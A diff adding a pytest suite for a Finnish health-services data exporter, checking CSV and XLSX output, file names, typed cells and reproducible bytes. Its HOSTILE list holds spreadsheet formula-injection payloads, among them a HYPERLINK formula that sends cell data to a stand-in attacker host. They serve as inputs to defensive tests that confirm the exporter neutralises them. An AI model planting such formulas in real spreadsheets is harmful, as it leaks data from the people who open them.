@@ -1,0 +1,266 @@
+"""The writers (sotedata.export): types that survive into Excel, nothing that runs, names that
+say what a file holds, and the same bytes for the same input."""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+from datetime import date, datetime
+
+import pandas as pd
+import pytest
+from openpyxl import load_workbook
+
+from sotedata import export
+from sotedata.ingest import import_file
+from sotedata.model import Measure, default_roadmap
+from sotedata.store import Store
+from sotedata.tables import Table, TableQuery, build_table, sources_from_store
+
+EXPORTED = datetime(2026, 11, 23, 9, 30, 0)
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Klikkaa")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\tpiilo",
+    "\rrivi",
+]
+
+
+@pytest.fixture(scope="module")
+def sources(demo_db_url):
+    with Store.open(demo_db_url) as store:
+        return sources_from_store(store)
+
+
+@pytest.fixture(scope="module")
+def hostile_sources(tmp_path_factory):
+    """A database whose comments came in through a real import, each one a formula attempt."""
+    url = f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'sote.sqlite'}"
+    measures = [
+        Measure(f"X-{i}", f"Toimenpide {i}", 1, "ict", i % 2 == 0, date(2026, 1, 31))
+        for i in range(1, len(HOSTILE) + 1)
+    ]
+    out = io.StringIO()
+    writer = csv.writer(out, delimiter=";")
+    writer.writerow(["Hyvinvointialue", "Tunnus", "Tila", "Tilannepäivä", "Kommentti"])
+    for measure, comment in zip(measures, HOSTILE, strict=True):
+        writer.writerow(["Lappi", measure.id, "Valmis", "15.11.2026", comment])
+    with Store.open(url) as store:
+        store.save_roadmap(default_roadmap(measures))
+        report = import_file(store, out.getvalue().encode("utf-8"), "vihamielinen.csv")
+        assert report.ok, report.errors
+        yield sources_from_store(store)
+
+
+def hostile_table(hostile_sources) -> Table:
+    return build_table(TableQuery(areas=("21",)), hostile_sources)
+
+
+# --- neutralising ---------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_formula_like_text_gets_an_apostrophe(text):
+    assert export.neutralise(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", ["Valmis", "", "1+1", "a=b", "'=jo suojattu", "€ 5"])
+def test_ordinary_text_is_left_alone(text):
+    assert export.neutralise(text) == text
+
+
+def test_negative_numbers_stay_numbers():
+    assert export.csv_cell(-3, "change", finnish=False) == "-3"
+    assert export.csv_cell(-0.05, "share_change", finnish=True) == "-0,05"
+    assert export.csv_cell("-3 päivää", "text", finnish=False) == "'-3 päivää"
+
+
+def test_imported_formula_comments_are_neutralised_in_every_format(hostile_sources):
+    table = hostile_table(hostile_sources)
+    stored = set(table.frame["comment"])
+    # the import kept the formulas as written (it folds whitespace, so tab and CR go there)
+    assert stored == {*HOSTILE[:4], "piilo", "rivi"}
+    expected = {*("'" + text for text in HOSTILE[:4]), "piilo", "rivi"}
+    for fmt, finnish in (("csv", False), ("csv-fi", True)):
+        data = export.export_bytes(table, fmt, EXPORTED).decode("utf-8-sig")
+        rows = list(csv.reader(io.StringIO(data, newline=""), delimiter=";" if finnish else ","))
+        column = rows[0].index("Kommentti")
+        assert {row[column] for row in rows[1:]} == expected
+    book = load_workbook(io.BytesIO(export.export_bytes(table, "xlsx", EXPORTED)))
+    sheet = book.worksheets[0]
+    column = [c.value for c in sheet[1]].index("Kommentti") + 1
+    cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
+    assert {c.value for c in cells} == expected
+    assert {c.data_type for c in cells} == {"s"}  # strings, no formula cell anywhere
+    for row in sheet.iter_rows():
+        assert all(cell.data_type != "f" for cell in row)
+
+
+def test_a_search_text_in_the_metadata_is_neutralised_too(sources):
+    table = build_table(TableQuery(search="=1+1"), sources)
+    book = load_workbook(io.BytesIO(export.to_xlsx(table, EXPORTED)))
+    values = [c.value for row in book["Tiedot"].iter_rows() for c in row]
+    filters = next(v for v in values if isinstance(v, str) and "Haku" in v)
+    assert filters.startswith("Haku: =1+1") and all(c.data_type != "f" for c in book["Tiedot"]["B"])
+
+
+# --- file names -----------------------------------------------------------------------------------
+
+
+def named(**query) -> str:
+    return export.file_name(Table(TableQuery(**query), pd.DataFrame(), (), ""), "xlsx")
+
+
+def test_file_names_say_what_the_file_holds():
+    assert named(areas=("21",), phase=3, as_of=date(2026, 11, 23)) == (
+        "tilannekuva_2026-11-23_lappi_vaihe-3.xlsx"
+    )
+    assert named(as_of=date(2026, 11, 23)) == "tilannekuva_2026-11-23.xlsx"
+    assert named(
+        table="risks", areas=("01",), risk_min=15, risk_max=25, as_of=date(2022, 12, 15)
+    ) == ("tilannekuva_riskit_2022-12-15_ita-uusimaa_riski-15-25.xlsx")
+    assert named(
+        table="changes",
+        areas=("01", "02", "03", "21"),
+        as_of=date(2022, 12, 15),
+        since=date(2022, 6, 15),
+    ) == ("tilannekuva_muutokset_2022-12-15_vrt-2022-06-15_4-aluetta.xlsx")
+    assert (
+        named(
+            work_stream="ict",
+            critical_only=True,
+            overdue_only=True,
+            statuses=("done",),
+            search="Äänestys ja?",
+        )
+        == "tilannekuva_ict_tila-done_kriittiset_myohassa_haku-aanestys-ja.xlsx"
+    )
+    csv_name = export.file_name(
+        Table(TableQuery(as_of=date(2022, 1, 15)), pd.DataFrame(), (), ""), "csv-fi"
+    )
+    assert csv_name == "tilannekuva_2022-01-15.csv"
+
+
+# --- XLSX -----------------------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def lapland(sources) -> Table:
+    return build_table(TableQuery(areas=("21", "01")), sources)
+
+
+def test_xlsx_has_typed_cells_a_frozen_header_and_an_autofilter(lapland):
+    book = load_workbook(io.BytesIO(export.to_xlsx(lapland, EXPORTED)))
+    assert book.sheetnames == ["Tilanne", "Tiedot"]
+    sheet = book["Tilanne"]
+    assert [c.value for c in sheet[1]] == lapland.headers()
+    assert sheet.freeze_panes == "A2"
+    assert sheet.auto_filter.ref == f"A1:K{lapland.rows + 1}"
+    assert sheet.max_row == lapland.rows + 1
+    code = sheet["A2"]
+    assert (code.value, code.data_type) == ("01", "s")
+    frame = lapland.frame
+    headers = lapland.headers()
+    deadline = sheet.cell(row=2, column=headers.index("Määräaika") + 1)
+    assert deadline.is_date and deadline.number_format == "d.m.yyyy"
+    assert deadline.value.date() == frame["deadline"].iloc[0]
+    phase = sheet.cell(row=2, column=headers.index("Vaihe") + 1)
+    assert phase.value == frame["phase"].iloc[0] and phase.data_type == "n"
+    critical = sheet.cell(row=2, column=headers.index("Kriittinen") + 1)
+    assert critical.value in {"Kyllä", "Ei"}
+    widths = [sheet.column_dimensions[letter].width for letter in "ABCDEFGHIJK"]
+    assert all(6 <= w <= export.MAX_WIDTH for w in widths)
+    assert sheet.column_dimensions["D"].width > sheet.column_dimensions["A"].width
+
+
+def test_xlsx_shares_are_percentages_and_counts_are_numbers(sources):
+    table = build_table(TableQuery(table="metrics"), sources)
+    sheet = load_workbook(io.BytesIO(export.to_xlsx(table, EXPORTED))).worksheets[0]
+    headers = [c.value for c in sheet[1]]
+    share = sheet.cell(row=2, column=headers.index("Valmiiden osuus") + 1)
+    assert share.number_format == "0.0 %"
+    assert share.value == pytest.approx(table.frame["done_share"].iloc[0])
+    count = sheet.cell(row=2, column=headers.index("Toimenpiteitä") + 1)
+    assert isinstance(count.value, int) and count.value == table.frame["measures"].iloc[0]
+
+
+def test_xlsx_metadata_sheet_says_what_and_where_from(lapland):
+    book = load_workbook(io.BytesIO(export.to_xlsx(lapland, EXPORTED)))
+    info = {row[0].value: row[1].value for row in book["Tiedot"].iter_rows()}
+    assert info["Aineisto"] == "Toimenpiteiden tila"
+    assert "raportit" in info["Lähde"]
+    assert info["Tilannepäivä"].date() == lapland.query.as_of
+    assert info["Rajaukset"] == "Alueet: Itä-Uusimaa, Lappi" or info["Rajaukset"] == (
+        "Alueet: Lappi, Itä-Uusimaa"
+    )
+    assert info["Rivejä"] == lapland.rows
+    assert info["Viety (UTC)"] == EXPORTED
+    assert info["Sovelluksen versio"] == export.app_version() != ""
+    assert info["Huomio"].startswith("Esimerkkiaineisto")
+
+
+def test_xlsx_bytes_depend_only_on_the_input_and_the_export_time(lapland):
+    first = export.to_xlsx(lapland, EXPORTED)
+    assert export.to_xlsx(lapland, EXPORTED) == first
+    later = export.to_xlsx(lapland, datetime(2026, 11, 24, 8, 0, 0))
+    assert later != first
+    with zipfile.ZipFile(io.BytesIO(first)) as archive:
+        assert {i.date_time for i in archive.infolist()} == {(2026, 11, 23, 9, 30, 0)}
+        core = archive.read("docProps/core.xml").decode()
+    assert core.count("2026-11-23T09:30:00Z") == 2  # created and modified
+
+
+# --- CSV ------------------------------------------------------------------------------------------
+
+
+def test_standard_csv_is_utf8_comma_iso_dates_decimal_point(sources):
+    table = build_table(TableQuery(table="metrics", areas=("21",)), sources)
+    data = export.to_csv(table)
+    assert not data.startswith(b"\xef\xbb\xbf")
+    back = pd.read_csv(io.BytesIO(data), dtype={"Aluekoodi": str})
+    assert list(back.columns) == table.headers()
+    assert back["Aluekoodi"].iloc[0] == "21"
+    assert back["Valmiiden osuus"].iloc[0] == pytest.approx(
+        table.frame["done_share"].iloc[0], abs=1e-6
+    )
+    status = export.to_csv(build_table(TableQuery(areas=("21",)), sources)).decode()
+    assert ",2022-12-15," in status and "Lappi" in status
+
+
+def test_finnish_csv_has_bom_semicolons_decimal_comma_and_finnish_dates(sources):
+    table = build_table(TableQuery(table="metrics", areas=("01",)), sources)
+    data = export.to_csv(table, finnish=True)
+    assert data.startswith(b"\xef\xbb\xbf")
+    text = data.decode("utf-8-sig")
+    assert text.splitlines()[0].split(";")[:2] == ["Aluekoodi", "Alue"]
+    back = pd.read_csv(io.StringIO(text), sep=";", decimal=",", dtype={"Aluekoodi": str})
+    assert back["Alue"].iloc[0] == "Itä-Uusimaa"  # the letters survive
+    assert back["Aluekoodi"].iloc[0] == "01"
+    assert back["Valmiiden osuus"].iloc[0] == pytest.approx(
+        table.frame["done_share"].iloc[0], abs=1e-6
+    )
+    assert "," in text.splitlines()[1]  # a decimal comma, since a share is not a whole number
+    status = export.to_csv(build_table(TableQuery(areas=("01",)), sources), finnish=True).decode()
+    assert ";15.12.2022;" in status
+
+
+def test_the_row_count_of_every_format_is_the_table_s(sources):
+    table = build_table(TableQuery(table="risks", risk_min=15), sources)
+    assert table.rows > 0
+    for fmt in ("csv", "csv-fi"):
+        text = export.export_bytes(table, fmt).decode("utf-8-sig")
+        assert (
+            len(
+                list(
+                    csv.reader(
+                        io.StringIO(text, newline=""), delimiter=";" if fmt == "csv-fi" else ","
+                    )
+                )
+            )
+            == table.rows + 1
+        )
+    sheet = load_workbook(io.BytesIO(export.export_bytes(table, "xlsx", EXPORTED))).worksheets[0]
+    assert sheet.max_row == table.rows + 1
